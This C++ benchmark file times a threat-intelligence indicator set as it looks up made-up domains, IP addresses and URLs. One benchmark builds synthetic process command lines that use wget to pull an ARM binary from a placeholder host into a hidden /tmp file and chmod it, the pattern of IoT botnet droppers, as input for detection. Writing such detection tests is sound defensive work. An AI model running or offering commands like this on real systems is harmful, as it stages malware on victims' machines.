#include <benchmark/benchmark.h>

#include <string>
#include <unordered_set>
#include <vector>

#include "agent_core/base/check.h"
#include "agent_core/base/random.h"
#include "pipeline_core/intel/indicator_set.h"
#include "pipeline_core/intel/observed_value.h"

// Look-ups in large sets, one core. Names and addresses are made up, with the shapes of real ones: most names
// have three labels, some are long, one look-up in a hundred hits. `bytes_per_entry` is what the sealed set holds.
// The floor of a look-up of a name: its bytes once (`domains_floor`) and a word of a filter of 2 MiB for each parent;
// a hit reads a slot, an entry, its words and a name more, each a line of its own. `domains_plain` is what one writes
// first, a set of strings searched for every parent.

namespace picket {
namespace {

const Time kNow = Time::from_unix_seconds(1'800'000'000);

/// `deep`: share of names with a label before the registered one; of a list about a third, of what is asked most.
std::string made_up_name(RandomStream& random, double deep) {
  constexpr const char* kWords[] = {"cdn", "api", "www", "mail", "static", "update", "shop", "cloud", "news", "login",
                                    "img", "data", "sync", "edge", "node", "pay", "media", "mobile", "device", "iot"};
  constexpr const char* kZones[] = {"example", "test", "invalid", "example.com", "example.net", "example.org"};
  const auto word = [&] { return std::string(kWords[random.below(20)]); };
  std::string name = word() + (random.below(2) == 0 ? "-" : "") + word() + std::to_string(random.below(10'000'000));
  if (random.chance(deep)) name = word() + std::to_string(random.below(100)) + "." + name;
  if (random.below(10) == 0) name = "a-label-as-long-as-content-networks-make-them-" + name;
  return name + "." + kZones[random.below(6)];
}

Indicator words(RandomStream& random) {
  return {Time::from_unix_seconds(1'700'000'000) + Duration::hours(static_cast<std::int64_t>(random.below(2000))),
          Time::max(), "feed " + std::to_string(random.below(8))};
}

struct Names {
  std::shared_ptr<const IndicatorSet> set;
  std::vector<std::string> asked;
};
/// `listed` names, and 2^20 to ask for, of which one in `one_in` is listed.
Names make_names(std::size_t listed, std::uint64_t one_in) {
  RandomStream random(1, 0, 0, Purpose::kTest);
  IndicatorSet::Builder builder;
  Names names;
  std::vector<std::string> hits;
  for (std::size_t i = 0; i < listed; ++i) {
    std::string name = made_up_name(random, 0.3);
    if (i % 16 == 0) hits.push_back(name);
    builder.add(*domain_value(name), words(random));
  }
  names.set = builder.seal();
  for (std::size_t i = 0; i < 1U << 20; ++i) {
    if (one_in != 0 && random.below(one_in) == 0) {
      names.asked.push_back((random.below(2) == 0 ? "a." : "") + hits[random.below(hits.size())]);
    } else {
      names.asked.push_back(made_up_name(random, 0.8));
    }
  }
  return names;
}

void report(benchmark::State& state, const IndicatorSet& set, std::uint64_t hits, std::uint64_t looks) {
  state.SetItemsProcessed(static_cast<std::int64_t>(looks));
  state.counters["bytes_per_entry"] = static_cast<double>(set.bytes()) / static_cast<double>(set.size());
  state.counters["hit_share"] = static_cast<double>(hits) / static_cast<double>(looks);
}

void domains(benchmark::State& state) {
  const Names names = make_names(static_cast<std::size_t>(state.range(0)), static_cast<std::uint64_t>(state.range(1)));
  std::uint64_t hits = 0;
  std::uint64_t looks = 0;
  for (auto _ : state) {
    for (const std::string& name : names.asked) {
      hits += names.set->find_domain(name, kNow) != IndicatorSet::kNone ? 1 : 0;
    }
    looks += names.asked.size();
  }
  PICKET_CHECK(state.range(1) == 0 || hits * static_cast<std::uint64_t>(state.range(1)) * 2 > looks);
  report(state, *names.set, hits, looks);
}
BENCHMARK(domains)->Name("domains/small")->Args({1000, 100});
BENCHMARK(domains)->ArgNames({"listed", "one_hit_in"})->Args({100'000, 100})->Args({1'000'000, 1000})->Args({1'000'000, 100})->Args({1'000'000, 2});

void domains_plain(benchmark::State& state) {
  RandomStream random(1, 0, 0, Purpose::kTest);
  struct Hash {
    using is_transparent = void;
    std::size_t operator()(std::string_view text) const { return std::hash<std::string_view>()(text); }
  };
  std::unordered_set<std::string, Hash, std::equal_to<>> set;
  for (std::int64_t i = 0; i < state.range(0); ++i) set.insert(made_up_name(random, 0.3));
  std::vector<std::string> asked;
  for (std::size_t i = 0; i < 1U << 18; ++i) asked.push_back(made_up_name(random, 0.8));
  std::uint64_t hits = 0;
  for (auto _ : state) {
    for (const std::string& name : asked) {
      for (std::string_view rest = name;;) {
        if (set.contains(rest)) ++hits;
        const std::size_t dot = rest.find('.');
        if (dot == std::string_view::npos) break;
        rest.remove_prefix(dot + 1);
      }
    }
  }
  benchmark::DoNotOptimize(hits);
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * asked.size()));
}
BENCHMARK(domains_plain)->Arg(1'000'000);

/// Reading the names alone: what no structure can be faster than.
void domains_floor(benchmark::State& state) {
  const Names names = make_names(1000, 100);
  std::uint64_t sum = 0;
  for (auto _ : state) {
    for (const std::string& name : names.asked) {
      for (const char c : name) sum += static_cast<unsigned char>(c);
    }
    benchmark::DoNotOptimize(sum);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * names.asked.size()));
}
BENCHMARK(domains_floor);

/// Half of the set single addresses, a hundredth blocks, the rest addresses with ports.
void addresses(benchmark::State& state) {
  RandomStream random(2, 0, 0, Purpose::kTest);
  const bool v6 = state.range(1) != 0;
  const auto address = [&] {
    if (!v6) return IpAddress::v4(static_cast<std::uint32_t>(random.next()));
    return IpAddress::v6(0x20010db8'00000000ULL | (random.next() & 0xffffffff), random.next());
  };
  IndicatorSet::Builder builder;
  std::vector<IpAddress> hits;
  for (std::int64_t i = 0; i < state.range(0); ++i) {
    const IpAddress one = address();
    if (i % 100 == 0) {
      const IpAddress base = v6 ? IpAddress::v6(one.high(), 0) : IpAddress::v4(one.v4_value() & 0xffffff00);
      builder.add(*block_value(base, v6 ? 64 : 24), words(random));
    } else if (i % 2 == 0) {
      builder.add(address_value(one), words(random));
      hits.push_back(one);
    } else {
      builder.add(endpoint_value(one, 8080), words(random));
    }
  }
  const auto set = builder.seal();
  std::vector<IpAddress> asked;
  for (std::size_t i = 0; i < 1U << 20; ++i) asked.push_back(random.below(100) == 0 ? hits[random.below(hits.size())] : address());
  std::uint64_t found = 0;
  std::uint64_t looks = 0;
  for (auto _ : state) {
    for (const IpAddress& one : asked) found += set->find_endpoint(one, 443, kNow) != IndicatorSet::kNone ? 1 : 0;
    looks += asked.size();
  }
  PICKET_CHECK(found * 200 > looks);
  report(state, *set, found, looks);
}
BENCHMARK(addresses)->Name("addresses/small")->Args({1000, 0});
BENCHMARK(addresses)->ArgNames({"listed", "v6"})->Args({200'000, 0})->Args({1'000'000, 0})->Args({1'000'000, 1});

/// A command line with a URL: scan, normal form, and the look-ups of host and URL; paid once per distinct text.
void command_lines(benchmark::State& state) {
  RandomStream random(3, 0, 0, Purpose::kTest);
  IndicatorSet::Builder builder;
  for (std::int64_t i = 0; i < state.range(0); ++i) {
    builder.add(*url_value("http://" + made_up_name(random, 0.3) + "/x.sh"), words(random));
  }
  const auto set = builder.seal();
  TextTable texts;
  std::vector<Observation> asked;
  for (int i = 0; i < 1024; ++i) {
    ProcessRecord process;
    process.commandline = texts.intern("/bin/sh -c wget -q http://" + made_up_name(random, 0.8) + "/bins/arm7 -O /tmp/.x; chmod 777 /tmp/.x");
    asked.push_back({process, 1, kNow, kNow, kNow, kNow, false});
  }
  texts.freeze();
  std::vector<ObservedValue> values;
  std::uint64_t found = 0;
  for (auto _ : state) {
    for (const Observation& each : asked) {
      values.clear();
      observed_texts(each, texts, values);
      for (const ObservedValue& value : values) found += find(*set, value, kNow) != IndicatorSet::kNone ? 1 : 0;
    }
  }
  benchmark::DoNotOptimize(found);
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations() * asked.size()));
}
BENCHMARK(command_lines)->Name("command_lines/small")->Arg(1000);

void seal(benchmark::State& state) {
  for (auto _ : state) {
    state.PauseTiming();
    RandomStream random(1, 0, 0, Purpose::kTest);
    IndicatorSet::Builder builder;
    for (std::int64_t i = 0; i < state.range(0); ++i) builder.add(*domain_value(made_up_name(random, 0.3)), words(random));
    state.ResumeTiming();
    PICKET_CHECK(builder.seal()->size() != 0);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()) * state.range(0));
}
BENCHMARK(seal)->Name("seal/small")->Arg(1000);
BENCHMARK(seal)->Arg(1'000'000)->Unit(benchmark::kMillisecond);

}  // namespace
}  // namespace picket
